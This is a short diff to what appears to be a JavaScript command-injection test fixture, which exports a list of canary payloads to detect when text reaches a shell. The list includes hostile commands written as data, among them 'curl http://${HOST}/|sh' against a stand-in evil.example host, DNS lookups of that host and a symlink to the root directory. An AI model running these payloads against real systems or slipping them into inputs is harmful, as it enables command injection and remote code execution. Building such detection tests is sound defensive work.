@@ -5,10 +5,10 @@ const FILE = `/tmp/${CANARY}`;
 const HOST = `${CANARY}.evil.example`;
 const ESC = '\u001b';
 
-/** What runs where a text becomes part of a command. */
-const COMMANDS = [
+/** What runs where a text becomes part of a command: it leaves a file, starts a program, asks for a name. */
+export const COMMANDS = [
   ...[`touch ${FILE}`, `id>${FILE}`, `nslookup ${HOST}`, `curl http://${HOST}/|sh`],
-  ...[`${CANARY} & wait`, `node -e 0 ${HOST}`, `ln -s / ${FILE}`],
+  ...[`${CANARY} & wait`, `node -e 0 ${HOST}`, `ln -s / ${FILE}`, `getent hosts ${HOST}`],
 ];
 
 /** How each kind of shell and template takes a command out of a text. */
